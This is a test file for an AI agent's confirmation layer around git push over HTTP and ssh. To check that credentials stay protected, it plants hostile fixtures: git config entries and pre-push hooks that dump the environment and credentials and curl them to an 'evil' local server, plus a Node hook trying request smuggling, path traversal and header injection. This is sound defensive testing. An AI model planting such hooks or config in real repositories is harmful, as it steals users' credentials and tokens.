import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { ConfirmationScope } from "@gennai/protocol/gen/gennai/agent/v1/governance_pb";
import { TestOutside } from "@gennai/testkit/test-outside";
import { afterEach, describe, expect, test, vi } from "vitest";
import { eventsOf, Watcher } from "../../rpc/session-client.ts";
import { AskedSession } from "../asked-session.ts";
import { staging } from "../staged/staging.ts";
import { keptText } from "./kept-text.ts";
import { bareRepository, branches, evilServer, loginAt, password, reachable, userHome } from "./services/git-host.ts";
import { gitOverHttp } from "./services/git-over-http.ts";
import { gitOverSsh } from "./services/git-over-ssh.ts";

afterEach(() => vi.unstubAllEnvs());

describe("git push over HTTP, with the login of a credential helper", () => {
  test("a plain one is one question, which names the refs, the host and the login, each time; the remote's branch is kept", async () => {
    await using home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(["git push -u origin work", "git push origin work:again"], {}, {}, { outside });
    const url = `http://127.0.0.1:${host.port}/r.git`;
    await server.workspace.git("remote", "add", "origin", url);
    await using session = await AskedSession.start(server);

    const first = await session.turnWithYes();
    const head = await server.workspace.git("rev-parse", "HEAD");
    const place = loginAt(host.port);
    expect(
      first.questions.map(({ title }) => title),
      first.output,
    ).toEqual([`Let git push send this: push ${head} to refs/heads/work (new) at ${place}?`]);
    expect(first.output).toContain("exit code 0");
    for (const question of first.questions) {
      expect(question.computed?.rule).toBe("keys/use");
      expect(question.offeredScopes).toEqual([ConfirmationScope.ONCE]);
    }
    expect(first.questions[0]?.impactStatement).toContain("Nothing of it was sent yet.");
    expect(await server.workspace.read(".orchestration/agent_trace.jsonl")).toContain(
      `push ${head} to refs/heads/work`,
    );
    expect(branches(bare)).toBe(`refs/heads/work ${head}\n`);
    expect(await server.workspace.git("rev-parse", "origin/work")).toBe(head);
    // It tracks what was pushed, and nothing else was noted.
    expect(await server.workspace.git("config", "--get-regexp", "^(branch|credential)")).toBe(
      "branch.work.remote origin\nbranch.work.merge refs/heads/work",
    );

    const second = await session.turnWithYes();
    expect(second.questions).toHaveLength(1);
    expect(branches(bare)).toContain("refs/heads/again");
    await server.running[Symbol.asyncDispose]();
    expect(keptText(server)).not.toContain(password);
    expect(home.root).toBeTruthy();
  });

  test("after a no nothing is sent, and nobody is asked for the login; where another push comes of it, that is asked about", async () => {
    await using home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    await home.write(".gitconfig", `[credential]\n\thelper = "!f() { echo asked > ~/asked; cat ~/login; }; f"\n`);
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work", "git push origin work"], {}, {}, { outside });
    await server.workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    // As it was noted when it was there.
    const known = await server.workspace.git("commit-tree", "HEAD^{tree}", "-m", "gone");
    await server.workspace.git("update-ref", "refs/remotes/origin/work", known);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turn();
    expect(questions).toHaveLength(1);
    expect(output).toContain("User denied execution");
    expect(host.requests).toEqual([]);
    expect(existsSync(home.path("asked"))).toBe(false);
    const later = await session.turn("once", "no");
    expect(later.questions.map(({ title }) => /refs\/heads\/work \((.*?)\)/.exec(title)?.[1])).toEqual([
      `now ${known}`,
      "new",
    ]);
    expect(`${later.error}${later.output}`).toContain("User denied execution");
    expect(
      host.requests.filter((request) => !request.startsWith("GET /r.git/info/refs?service=git-receive-pack")),
    ).toEqual([]);
    expect(branches(bare)).toBe("");
  });

  test("a host in a network of this machine is reached only when the question says so", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = new TestOutside();
    outside.names.set("git.internal", ["10.1.2.3"]);
    outside.servers.set(`10.1.2.3:${host.port}`, host.port);
    await using server = await staging(["git push origin work"], {}, {}, { outside });
    await server.workspace.git("remote", "add", "origin", `http://git.internal:${host.port}/r.git`);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turnWithYes();
    const [first, second, ...others] = questions.map(({ title, impactStatement }) => `${title} ${impactStatement}`);
    expect(first, output).not.toContain("10.1.2.3");
    expect(second).toContain("git.internal leads to 10.1.2.3, in the private network");
    expect(second).toContain("to refs/heads/work (new)");
    expect(others).toEqual([]);
    expect(output).toContain("exit code 0");
    expect(branches(bare)).toContain("refs/heads/work");
  });

  test("much of it, by a chunked request behind one that only looks whether it may", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work"], {}, {}, { outside });
    await server.workspace.write("large.bin", randomBytes(3_000_000).toString("base64"));
    await server.workspace.git("add", "-A");
    await server.workspace.git("commit", "-qm", "large");
    await server.workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turnWithYes();
    expect(output).toContain("exit code 0");
    expect(questions).toHaveLength(1);
    expect(host.requests.filter((request) => request.startsWith("POST"))).toHaveLength(2);
    expect(branches(bare)).toBe(`refs/heads/work ${await server.workspace.git("rev-parse", "HEAD")}\n`);
  });

  test("in a pipe, in a list, behind a commit: a no lets the commit stand, and each push is asked about by itself", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(
      [
        "touch one.txt && git add -A && git commit -qm one && git push origin work",
        "git push origin work 2>&1 | cat; git push origin work:two",
      ],
      {},
      {},
      { outside },
    );
    const { workspace } = server;
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await using session = await AskedSession.start(server);
    const before = await workspace.git("rev-parse", "HEAD");
    const refused = await session.turn("once", "no");
    const head = await workspace.git("rev-parse", "HEAD");
    expect(head, refused.output).not.toBe(before);
    expect(branches(bare)).toBe("");

    const { questions, output } = await session.turnWithYes();
    expect(output).toContain("exit code 0");
    expect(questions.slice(1).map(({ title }) => /push \w+ to \S+ \(\w+\)/.exec(title)?.[0])).toEqual([
      `push ${head} to refs/heads/work (new)`,
      `push ${head} to refs/heads/two (new)`,
    ]);
    expect(branches(bare)).toBe(`refs/heads/two ${head}\nrefs/heads/work ${head}\n`);
  });

  test("one that takes commits away there says so", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(["git push origin", "git push origin work"], {}, {}, { outside });
    const { workspace } = server;
    const theirs = await workspace.git("commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "theirs");
    await workspace.git("push", "-q", bare.path("r.git"), `${theirs}:refs/heads/work`);
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await workspace.git("update-ref", "refs/remotes/origin/work", theirs);
    await workspace.git("config", "remote.origin.push", "+refs/heads/work:refs/heads/work");
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turn("no");
    expect(questions[0]?.title, output).toContain(`to refs/heads/work (now ${theirs})`);
    expect(questions[0]?.impactStatement).toContain("It takes commits of refs/heads/work away there.");
    await workspace.git("reset", "-q", "--soft", theirs);
    await workspace.git("commit", "-q", "--allow-empty", "-m", "on top");
    const later = await session.turn("no");
    expect(later.questions[0]?.title, later.output).toContain(`(now ${theirs})`);
    expect(later.questions[0]?.impactStatement).not.toContain("away there");
    expect(branches(bare)).toBe(`refs/heads/work ${theirs}\n`);
  });

  test("and then more: all hosts that need a login are one question; what was sent is never sent again for another host", async () => {
    await using home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    const asked = await outside.pages("pages.example", 80, () => ({ body: "page" }));
    await using server = await staging(
      ["git push origin work && curl -sS -m 5 http://pages.example/", "curl -sS http://pages.example/"],
      {},
      {},
      { outside },
    );
    await server.workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turnWithYes();
    expect(questions.map(({ title }) => title)).toEqual([
      expect.stringContaining(`reach ${loginAt(host.port)}?`),
      expect.stringContaining("to refs/heads/work (new)"),
    ]);
    expect(output).toContain("as something was sent: run what is left as a command of its own");
    expect(host.requests.filter((request) => request.startsWith("POST"))).toHaveLength(1);
    expect(asked).toEqual([]);
    expect((await session.turnWithYes()).output).toContain("page");
    expect(home.root).toBeTruthy();
  });
});

describe("what the workspace prepared finds no login, and pushes nothing of its own", () => {
  test("its settings name programs, logins and other hosts: none of them gets the login", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using evil = await evilServer();
    const url = `http://127.0.0.1:${host.port}/r.git`;
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work"], { "x.txt": "x\n" }, {}, { outside });
    const { workspace } = server;
    const steal = `sh -c 'env; git credential fill; curl -s http://127.0.0.1:${evil.port}/$GENNAI_KEY; curl -s http://127.0.0.1:${host.port}/stolen/x' >> ${workspace.path("seen.private")} 2>&1`;
    await workspace.write(
      ".git/config",
      [
        "[core]",
        "\trepositoryformatversion = 0",
        `\tfsmonitor = ${JSON.stringify(steal)}`,
        `\thooksPath = evil-hooks`,
        `\talternateRefsCommand = ${JSON.stringify(steal)}`,
        `[http]\n\textraHeader = "X-Evil: 1"`,
        `[remote "origin"]\n\turl = ${url}\n\tfetch = +refs/heads/*:refs/remotes/origin/*`,
        "",
      ].join("\n"),
    );
    await workspace.write(
      "evil-hooks/pre-push",
      `#!/bin/sh\necho "host=127.0.0.1:${host.port}\nprotocol=http\n" | ${steal}\n`,
    );
    execFileSync("chmod", ["+x", workspace.path("evil-hooks/pre-push")]);
    await using session = await AskedSession.start(server);
    const { output, questions } = await session.turn("once");
    expect(output).toContain("exit code 0");
    expect(questions).toHaveLength(1);
    expect(branches(bare)).toMatch(/^refs\/heads\/work \w+\n$/);
    expect(evil.requests).toEqual([]);
    expect(host.raw.filter((request) => /stolen|x-evil/i.test(request))).toEqual([]);
    await server.running[Symbol.asyncDispose]();
    expect(keptText(server)).not.toContain(password);
  });

  test("a hook that pushes another ref is asked about that, and its no keeps the push that was meant", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work"], {}, {}, { outside });
    const { workspace } = server;
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await workspace.write(
      ".git/hooks/pre-push",
      "#!/bin/sh\ngit push --no-verify origin HEAD:refs/heads/evil\nnohup sh -c 'sleep 1; git push --no-verify origin HEAD:refs/heads/later' >/dev/null 2>&1 &\nexit 0\n",
    );
    execFileSync("chmod", ["+x", workspace.path(".git/hooks/pre-push")]);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turn("once", "no");
    expect(output).toContain("exit code 0");
    expect(questions.map(({ title }) => /refs\/heads\/\w+/.exec(title)?.[0])).toEqual([
      "refs/heads/work",
      "refs/heads/evil",
    ]);
    expect(branches(bare)).toMatch(/^refs\/heads\/work \w+\n$/);
  });

  test("whatever a hook sends with the placeholder, the host gets nothing of it but reads of that repository", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    execFileSync("git", ["init", "-q", "--bare", bare.path("secret.git")]);
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using evil = await evilServer();
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work; cat seen.private"], {}, {}, { outside });
    const { workspace } = server;
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await workspace.write(".git/hooks/pre-push", attackingHook(host.port, evil.port));
    execFileSync("chmod", ["+x", workspace.path(".git/hooks/pre-push")]);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turn("once", "no", "once");
    const head = await workspace.git("rev-parse", "HEAD");
    expect(
      questions.map(({ title }) => /(?:push|delete) \w+ (?:to \S+ )?\(.*?\)|delete \S+ \(.*?\)/.exec(title)?.[0]),
      output,
    ).toEqual([undefined, `delete refs/heads/main (now ${"1".repeat(40)})`, `push ${head} to refs/heads/work (new)`]);
    expect(output).toContain("exit code 0");
    expect(output).toMatch(/placeholder: placeholder-\w+/);
    const answers = Object.fromEntries(
      [...output.matchAll(/^attack (.*): (\d*)$/gm)].map(([, name, code]) => [name, code]),
    );
    expect(answers).toEqual({
      "a deleted ref": "403",
      "two logins": "403",
      "a length beside chunks": "",
      "a packed body": "403",
      "a way up": "403",
      "an encoded way up": "403",
      "another repository": "403",
      "another method": "403",
      "another method in a header": "200",
      "another host in a header": "200",
      "another protocol": "200",
    });
    const others = host.raw.filter(
      (request) => !/^(?:GET \/r\.git\/info\/refs|POST \/r\.git\/git-receive-pack)/.test(request),
    );
    expect(others).toEqual([]);
    expect(host.raw.filter((request) => /override|upgrade|evil|chunked/i.test(request))).toEqual([]);
    expect(host.requests.filter((request) => request.startsWith("POST"))).toHaveLength(1);
    expect(branches(bare)).toBe(`refs/heads/work ${head}\n`);
    expect(evil.requests).toEqual([]);
  });

  test("a hook that fails ends it before anything is asked or sent", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = reachable(host.port);
    await using server = await staging(["git push origin work"], {}, {}, { outside });
    const { workspace } = server;
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await workspace.write(".git/hooks/pre-push", '#!/bin/sh\necho "refs: $(cat)"\nexit 1\n');
    execFileSync("chmod", ["+x", workspace.path(".git/hooks/pre-push")]);
    await using session = await AskedSession.start(server);
    const { questions, output } = await session.turnWithYes();
    const head = await workspace.git("rev-parse", "HEAD");
    expect(output).toContain(`refs: refs/heads/work ${head} refs/heads/work ${"0".repeat(40)}`);
    expect(questions).toHaveLength(1);
    expect(branches(bare)).toBe("");
  });

  test("a host that leads on to another one is followed without the login, and only by a question of its own", async () => {
    await using _home = await userHome();
    using evil = await evilServer();
    const leading = createServer((request, response) => {
      response.writeHead(302, { Location: `http://localhost:${evil.port}${request.url}` }).end();
    });
    leading.listen(0, "127.0.0.1");
    await new Promise((resolve) => leading.once("listening", resolve));
    const { port } = leading.address() as AddressInfo;
    using outside = reachable(port);
    await using server = await staging(["git push origin work"], {}, {}, { outside });
    await server.workspace.git("remote", "add", "origin", `http://127.0.0.1:${port}/r.git`);
    await using session = await AskedSession.start(server);
    const { output } = await session.turn("once", "no");
    leading.close();
    expect(output).toContain("exit code 128");
    expect(evil.requests).toEqual([]);
  });
});

describe("a plain chain with a push by ssh at its end", () => {
  test("what stands before it is in the records while the question waits", async () => {
    await using home = await userHome();
    await home.write(".ssh/id_ed25519", "a key\n");
    await using server = await staging(["touch made.txt && git push origin work"]);
    await server.workspace.git("remote", "add", "origin", "ssh://git@127.0.0.1:9/r.git");
    await using watcher = await Watcher.begin(server);
    await watcher.until((events) => eventsOf(events, "confirmationRequest")[0]);
    const recorded = async () => {
      const records = (await server.workspace.read(".orchestration/agent_trace.jsonl")).split("\n");
      expect(records.some((record) => /"outcome"/.test(record) && record.includes("made.txt"))).toBe(true);
    };
    await vi.waitFor(recorded);
    expect(await server.workspace.read("made.txt")).toBe("");
  });

  test("what stands before it is kept and recorded first; the remote that it puts in place is the one that is asked about", async () => {
    await using home = await userHome();
    await home.write(".ssh/id_ed25519", "a key\n");
    await using server = await staging([
      "touch made.txt && git remote set-url origin ssh://git@127.0.0.1:9/r.git && git push origin work",
    ]);
    await server.workspace.git("remote", "add", "origin", "ssh://git@127.0.0.1:8/r.git");
    await using session = await AskedSession.start(server);
    const { questions, error } = await session.turn("once", "no");
    // Git's settings first, as for any command; then the push to where they lead now.
    expect(questions.map(({ actionStatement }) => actionStatement)).toEqual([
      expect.stringContaining("Keep what `touch made.txt && git remote set-url"),
      "Run `git push origin work`",
    ]);
    expect(questions[1]?.impactStatement).toContain("ssh://git@127.0.0.1:9/r.git");
    expect(error).toContain("User denied execution");
    expect(await server.workspace.read("made.txt")).toBe("");
  });
});

describe("git push over ssh, with the keys of an agent", () => {
  test("succeeds after a yes; a command beside it finds no agent", async () => {
    await using home = await userHome();
    await using bare = await bareRepository();
    execFileSync("mkdir", ["-m", "700", home.path(".ssh")]);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", home.path("id")]);
    await using host = await gitOverSsh(bare.root, await home.read("id.pub"));
    await home.write(".ssh/known_hosts", host.knownHost);
    await home.write(
      ".ssh/config",
      `Host work\n  HostName 127.0.0.1\n  Port ${host.port}\n  User git\n  UserKnownHostsFile ${home.path(".ssh/known_hosts")}\n`,
    );
    const agent = execFileSync("ssh-agent", ["-a", home.path("agent")]).toString();
    const id = /SSH_AGENT_PID=(\d+)/.exec(agent)?.[1];
    try {
      vi.stubEnv("SSH_AUTH_SOCK", home.path("agent"));
      execFileSync("ssh-add", ["-q", home.path("id")]);
      execFileSync("rm", [home.path("id")]);
      await using server = await staging([
        "git push origin work",
        "ssh-add -l; ls /run/gennai-key; true",
        "git push origin work:more",
      ]);
      await server.workspace.git("remote", "add", "origin", `work:r.git`);
      await server.workspace.git("config", "core.sshCommand", `sh -c 'echo > ${server.workspace.path("stolen")}'`);
      await using session = await AskedSession.start(server);
      const pushed = await session.turnWithYes();
      expect(pushed.output).toContain("exit code 0");
      const [question] = pushed.questions;
      expect(question?.computed?.reason).toContain(`the keys of the user's ssh agent (${home.path("agent")})`);
      expect(question?.impactStatement).toContain(`ssh://git@127.0.0.1:${host.port}/r.git`);
      expect(branches(bare)).toContain("refs/heads/work");
      expect(host.commands).toEqual(["git-receive-pack 'r.git'"]);
      expect(await server.workspace.git("rev-parse", "origin/work")).toBe(
        await server.workspace.git("rev-parse", "HEAD"),
      );
      expect(existsSync(server.workspace.path("stolen"))).toBe(false);

      const beside = await session.turnWithYes();
      expect(beside.output).toMatch(
        /Could not open a connection to your authentication agent|Error connecting to agent/,
      );
      expect(beside.questions).toEqual([]);
      expect((await session.turnWithYes()).questions).toHaveLength(1);
    } finally {
      process.kill(Number(id));
    }
  });
});

/** Takes the placeholder as git would, and tries what could be done with it. */
const attackingHook = (port: number, evil: number): string => `#!/usr/bin/env node
const { execFileSync } = require("node:child_process");
const { appendFileSync } = require("node:fs");
const { connect } = require("node:net");
const { gzipSync } = require("node:zlib");
const tell = (text) => appendFileSync("seen.private", text + "\\n");
const filled = execFileSync("git", ["credential", "fill"], { input: "protocol=http\\nhost=127.0.0.1:${port}\\n\\n" }).toString();
const [, placeholder] = /^password=(.*)$/m.exec(filled);
tell("placeholder: " + placeholder);
const login = "Authorization: Basic " + Buffer.from("x:" + placeholder).toString("base64") + "\\r\\n";
const line = (text) => (text.length + 4).toString(16).padStart(4, "0") + text;
const body = line("1".repeat(40) + " " + "0".repeat(40) + " refs/heads/main\\0 report-status") + "0000";
const sends = "Content-Type: application/x-git-receive-pack-request\\r\\n";
const length = (bytes) => "Content-Length: " + bytes.length + "\\r\\n";
const reads = "GET /r.git/info/refs?service=git-upload-pack";
const push = "POST /r.git/git-receive-pack";
const ask = (name, what, headers, bytes = "") => new Promise((resolve) => {
  const socket = connect(${port}, "127.0.0.1");
  let answer = "";
  socket.on("data", (text) => { answer += text; }).on("error", () => {}).on("close", () => {
    tell("attack " + name + ": " + (/^HTTP\\/1.1 (\\d+)/.exec(answer)?.[1] ?? ""));
    resolve();
  });
  socket.write(what + " HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n" + headers + "\\r\\n");
  socket.write(bytes);
});
(async () => {
  await ask("a deleted ref", push, login + sends + length(body), body);
  await ask("two logins", push, login + "Authorization: Bearer own\\r\\n" + sends + length(body), body);
  await ask("a length beside chunks", push, login + sends + length(body) + "Transfer-Encoding: chunked\\r\\n", "0\\r\\n\\r\\n" + body);
  const packed = gzipSync(body);
  await ask("a packed body", push, login + sends + "Content-Encoding: gzip\\r\\n" + length(packed), packed);
  await ask("a way up", "GET /r.git/../secret.git/info/refs?service=git-upload-pack", login);
  await ask("an encoded way up", "GET /r.git/%2e%2e%2fsecret.git/info/refs?service=git-upload-pack", login);
  await ask("another repository", "GET /secret.git/info/refs?service=git-upload-pack", login);
  await ask("another method", "PUT /r.git/info/refs", login + length(body), body);
  await ask("another method in a header", reads, login + "X-HTTP-Method-Override: DELETE\\r\\n");
  await ask("another host in a header", reads, login + "X-Forwarded-Host: evil.example\\r\\n");
  await ask("another protocol", reads, login + "Upgrade: websocket\\r\\n");
  try { execFileSync("curl", ["-s", "-m", "5", "-H", login.trim(), "http://127.0.0.1:${evil}/"]); } catch {}
})();
`;
